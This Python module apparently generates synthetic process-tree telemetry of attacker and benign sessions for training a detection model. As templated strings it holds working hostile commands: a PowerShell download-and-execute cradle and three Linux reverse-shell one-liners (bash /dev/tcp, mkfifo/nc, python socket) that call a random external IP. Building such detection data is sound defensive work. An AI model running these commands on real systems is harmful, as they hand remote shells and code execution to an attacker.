"""Where simulated activity starts: the user session, the shell an attacker types into, and how
commands reach child processes.

Why several entry chains: in real telemetry the same technique arrives through an interactive
shell, a C2 implant, WMI, a service or a web server, and the root is often cut (started before
the recording). Drawing the entry at random keeps the model from tying a tactic to one parent.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from pipeline.training.sim.builder import Proc, TreeBuilder
from pipeline.training.sim.vocab import Rand, linux_dirs, powershell, sys32, win_dirs
from schemas.events import Platform


@dataclass(slots=True)
class Session:
    """An attacker's (or user's) foothold: the shell and its surroundings."""

    b: TreeBuilder
    r: Rand
    user: str
    shell: Proc
    dirs: tuple[str, ...]
    malicious: bool = True

    @property
    def windows(self) -> bool:
        """True on a Windows device."""
        return self.b.platform is Platform.WINDOWS

    def wdir(self) -> str:
        """A writable folder for this session."""
        return self.r.pick(self.dirs)

    def run(self, image: str, command_line: str, *, parent: Proc | None = None, via_shell: float = 0.0,
            attack: bool | None = None, user: str | None = None, integrity: str | None = None,
            cwd: str | None = None) -> Proc:
        """Start `image` from the shell (or `parent`), sometimes through an intermediate `cmd /c`/`sh -c`."""
        parent = parent or self.shell
        attack = self.malicious if attack is None else attack
        if self.r.chance(via_shell):
            wrapper = (f'{sys32(self.r, "cmd.exe")}', f'cmd.exe /c {command_line}') if self.windows else (
                "/bin/sh", f"sh -c {_quote(command_line)}")
            parent = self.b.spawn(parent, wrapper[0], wrapper[1], attack=attack)
        child = self.b.spawn(parent, image, command_line, attack=attack, user=user, integrity=integrity, cwd=cwd)
        if self.windows and image.lower().endswith(("\\net.exe",)) and self.r.chance(0.8):
            self.b.spawn(child, sys32(self.r, "net1.exe"), command_line.replace("net ", "net1 ", 1),
                         attack=attack)
        if self.windows and self.r.chance(0.25) and not image.lower().endswith("conhost.exe"):
            self.b.spawn(child, sys32(self.r, "conhost.exe"), r"\??\C:\Windows\system32\conhost.exe "
                         "0xffffffff -ForceV1", attack=attack)
        return child

    def cmd(self, command_line: str, *, parent: Proc | None = None) -> Proc:
        """Run a shell command: Windows `cmd.exe /c`, Linux `sh -c` (or bash)."""
        if self.windows:
            line = f"{self.r.pick(('cmd.exe', 'cmd'))} /c {command_line}"
            return self.run(sys32(self.r, "cmd.exe"), line, parent=parent)
        sh = self.r.pick(("/bin/sh", "/bin/bash", "/usr/bin/bash", "/usr/bin/dash"))
        return self.run(sh, f"{sh.rsplit('/', 1)[1]} -c {_quote(command_line)}", parent=parent)

    def ps(self, script: str, *, encoded: float = 0.3, flags: str | None = None) -> Proc:
        """Run PowerShell with a script, plainly or as -EncodedCommand, and record its script block."""
        flags = flags if flags is not None else self.r.pick(
            ("-nop -w hidden", "-NoProfile -ExecutionPolicy Bypass", "-ep bypass", "", "-noni -nop",
             "-NoP -NonI -W Hidden -Exec Bypass"))
        if self.r.chance(encoded):
            body = f"{self.r.pick(('-enc', '-EncodedCommand', '-e', '-ec'))} {self.r.ps_enc(script)}"
        else:
            body = f'{self.r.pick(("-c", "-Command", ""))} "{script}"'
        proc = self.run(powershell(self.r), f"powershell.exe {flags} {body}".replace("  ", " "))
        if self.r.chance(0.7):
            self.b.script(proc, script, "powershell")
        return proc


def _quote(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


Entry = Callable[[TreeBuilder, Rand], Session]


def _win_base(b: TreeBuilder, r: Rand) -> tuple[str, Proc]:
    user = r.user()
    du = r.domain_user(user)
    if r.chance(0.5):
        explorer = b.existing(r.case("C:\\Windows\\explorer.exe"), user=du)
    else:
        userinit = b.existing(sys32(r, "userinit.exe"), user=du)
        explorer = b.spawn(userinit, r.case("C:\\Windows\\explorer.exe"), "C:\\Windows\\Explorer.EXE",
                           user=du, integrity="Medium", attack=False)
    return user, explorer


def win_interactive(b: TreeBuilder, r: Rand) -> Session:
    """A user (or hands-on-keyboard attacker) opens cmd or PowerShell from Explorer."""
    user, explorer = _win_base(b, r)
    image = r.pick((sys32(r, "cmd.exe"), powershell(r)))
    shell = b.spawn(explorer, image, f'"{image}" ' if r.chance(0.5) else image.rsplit("\\", 1)[1],
                    integrity=r.pick(("Medium", "High")), attack=True)
    return Session(b, r, user, shell, win_dirs(r, user))


def win_cut_shell(b: TreeBuilder, r: Rand) -> Session:
    """A shell whose parent started before the recording (cut tree)."""
    user = r.user()
    parent = b.existing(r.pick((sys32(r, "cmd.exe"), powershell(r), "C:\\Windows\\explorer.exe",
                                sys32(r, "wbem\\WmiPrvSE.exe"))), user=r.domain_user(user), attack=True)
    image = r.pick((sys32(r, "cmd.exe"), powershell(r)))
    shell = b.spawn(parent, image, image.rsplit("\\", 1)[1], user=r.domain_user(user),
                    integrity=r.pick(("Medium", "High", "System")), attack=True)
    if r.chance(0.4):
        ps_housekeeping(b, r, shell, user)
    return Session(b, r, user, shell, win_dirs(r, user))


def ps_housekeeping(b: TreeBuilder, r: Rand, shell: Proc, user: str) -> None:
    """What every PowerShell host writes: policy-test scripts in %TEMP% (created, then deleted) and caches."""
    if "powershell" not in shell.image.lower() and "pwsh" not in shell.image.lower():
        return
    local = f"C:\\Users\\{user}\\AppData\\Local"
    for _ in range(r.num(1, 3)):
        test = f"{local}\\Temp\\__PSScriptPolicyTest_{r.token(8, 8)}.{r.token(3, 3)}.ps1"
        b.create(shell, test)
        b.delete(shell, test)
    if r.chance(0.5):
        b.write(shell, f"{local}\\Microsoft\\Windows\\PowerShell\\StartupProfileData-{r.pick(('Interactive', 'NonInteractive'))}")


def win_inmemory_agent(b: TreeBuilder, r: Rand) -> Session:
    """An in-memory agent (PowerShell/C# stager) that started before the recording: no start event, no parent."""
    user = r.user()
    image = r.pick((powershell(r), sys32(r, "rundll32.exe"), sys32(r, "WindowsPowerShell\\v1.0\\powershell.exe")))
    shell = b.existing(image, user=r.domain_user(user), attack=True)
    if r.chance(0.5):
        ps_housekeeping(b, r, shell, user)
    if r.chance(0.5):
        b.connect(shell, r.ext_ip(), r.pick((443, 80, 8080)))
    return Session(b, r, user, shell, win_dirs(r, user))


def win_implant(b: TreeBuilder, r: Rand) -> Session:
    """A C2 implant (dropped exe, stager PowerShell or rundll32) hands the attacker a shell."""
    user, explorer = _win_base(b, r)
    dirs = win_dirs(r, user)
    kind = r.rng.randrange(3)
    if kind == 0:
        implant_image = f"{r.pick(dirs)}\\{r.name('exe')}"
        implant = b.spawn(explorer, implant_image, f'"{implant_image}"', integrity="Medium")
    elif kind == 1:
        script = f"IEX (New-Object Net.WebClient).DownloadString('http://{r.ext_ip()}/{r.name('ps1')}')"
        implant = b.spawn(explorer, powershell(r), f"powershell -nop -w hidden -enc {r.ps_enc(script)}",
                          integrity="Medium")
    else:
        implant = b.spawn(explorer, sys32(r, "rundll32.exe"),
                          f"rundll32.exe {r.pick(dirs)}\\{r.name('dll')},{r.pick(('Start', 'DllMain', '#1'))}",
                          integrity="Medium")
    b.connect(implant, r.ext_ip(), r.pick((443, 80, 8080, 8443, 4444)))
    image = r.pick((sys32(r, "cmd.exe"), powershell(r)))
    shell = b.spawn(implant, image, image.rsplit("\\", 1)[1], attack=True)
    return Session(b, r, user, shell, dirs)


def win_remote_exec(b: TreeBuilder, r: Rand) -> Session:
    """Remote execution landed here: WMI, WinRM or a service spawns the shell."""
    user = r.user()
    kind = r.rng.randrange(3)
    if kind == 0:
        parent = b.existing(sys32(r, "wbem\\WmiPrvSE.exe"), user="NT AUTHORITY\\NETWORK SERVICE")
        cmdline = f"cmd.exe /Q /c {r.pick(('whoami', 'hostname', 'cd'))} 1> \\\\127.0.0.1\\ADMIN$\\__{r.hexstr(8)} 2>&1"
        shell = b.spawn(parent, sys32(r, "cmd.exe"), cmdline, user=r.domain_user(user), integrity="High")
    elif kind == 1:
        parent = b.existing(sys32(r, "wsmprovhost.exe"), user=r.domain_user(user))
        shell = b.spawn(parent, powershell(r), "powershell.exe", integrity="High")
    else:
        parent = b.existing(sys32(r, "services.exe"), user="NT AUTHORITY\\SYSTEM")
        shell = b.spawn(parent, sys32(r, "cmd.exe"), f"cmd.exe /c {r.token(4, 8)}",
                        user="NT AUTHORITY\\SYSTEM", integrity="System")
    return Session(b, r, user, shell, win_dirs(r, user))


def linux_ssh(b: TreeBuilder, r: Rand) -> Session:
    """An SSH login shell."""
    user = r.pick(("root", r.linux_user()))
    sshd = b.existing("/usr/sbin/sshd", user="root")
    child = b.spawn(sshd, "/usr/sbin/sshd", f"sshd: {user} [priv]", user="root", attack=False)
    image = r.pick(("/bin/bash", "/usr/bin/bash", "/usr/bin/zsh", "/bin/sh"))
    shell = b.spawn(child, image, f"-{image.rsplit('/', 1)[1]}", user=user, attack=True)
    return Session(b, r, user, shell, linux_dirs(r, user))


def linux_cut_shell(b: TreeBuilder, r: Rand) -> Session:
    """A shell whose ancestry is unknown (started before the agent)."""
    user = r.pick(("root", r.linux_user()))
    parent = b.existing(r.pick(("/bin/bash", "/usr/bin/python3", "/usr/sbin/sshd", "/usr/bin/tmux")),
                        user=user, attack=True)
    shell = b.spawn(parent, "/bin/bash", "bash", user=user, attack=True)
    return Session(b, r, user, shell, linux_dirs(r, user))


def linux_reverse_shell(b: TreeBuilder, r: Rand) -> Session:
    """A reverse shell (exploited service or dropped payload) gives the attacker `sh`."""
    user = r.pick(("www-data", "root", r.linux_user(), "nobody"))
    service = b.existing(r.pick(("/usr/sbin/nginx", "/usr/sbin/apache2", "/usr/bin/java", "/usr/bin/node",
                                 "/usr/sbin/php-fpm8.1", "/usr/bin/python3")), user=user)
    ip, port = r.ext_ip(), r.pick((4444, 443, 9001, 1337, 8080, 53))
    cmd = r.pick((f"bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'",
                  f"sh -c 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {ip} {port} >/tmp/f'",
                  f"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"{ip}\",{port}));"
                  "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'"))
    stager = b.spawn(service, "/bin/sh", f"/bin/sh -c {_quote(cmd)}", user=user)
    image = "/usr/bin/python3" if cmd.startswith("python3") else "/bin/bash"
    shell = b.spawn(stager, image, cmd, user=user)
    b.connect(shell, ip, port)
    return Session(b, r, user, shell, linux_dirs(r, user))


def win_desktop(b: TreeBuilder, r: Rand) -> Session:
    """The user's desktop (Explorer) itself: for initial access, which brings its own chain."""
    user, explorer = _win_base(b, r)
    return Session(b, r, user, explorer, win_dirs(r, user))


def linux_host(b: TreeBuilder, r: Rand) -> Session:
    """A host with no attacker shell yet: initial access brings its own chain (via init)."""
    init = b.existing("/usr/lib/systemd/systemd", user="root")
    return Session(b, r, "root", init, linux_dirs(r, "root"))


def win_benign(b: TreeBuilder, r: Rand) -> Session:
    """A user's desktop session for benign workloads (nothing in it is malicious)."""
    user, explorer = _win_base(b, r)
    return Session(b, r, user, explorer, win_dirs(r, user), malicious=False)


def linux_benign(b: TreeBuilder, r: Rand) -> Session:
    """A login shell (SSH or desktop terminal) for benign workloads."""
    user = r.pick(("root", r.linux_user(), r.linux_user()))
    if r.chance(0.5):
        sshd = b.existing("/usr/sbin/sshd", user="root")
        priv = b.spawn(sshd, "/usr/sbin/sshd", f"sshd: {user} [priv]", user="root", attack=False)
        shell = b.spawn(priv, "/bin/bash", "-bash", user=user, attack=False)
    elif r.chance(0.5):
        term = b.existing(r.pick(("/usr/libexec/gnome-terminal-server", "/usr/bin/tmux", "/usr/bin/konsole")), user=user)
        shell = b.spawn(term, "/usr/bin/bash", "bash", user=user, attack=False)
    else:
        shell = b.existing(r.pick(("/usr/bin/bash", "/bin/bash", "/usr/bin/zsh")), user=user)
    return Session(b, r, user, shell, linux_dirs(r, user), malicious=False)


WIN_ENTRIES: tuple[Entry, ...] = (win_interactive, win_cut_shell, win_implant, win_remote_exec, win_inmemory_agent)
LINUX_ENTRIES: tuple[Entry, ...] = (linux_ssh, linux_cut_shell, linux_reverse_shell)
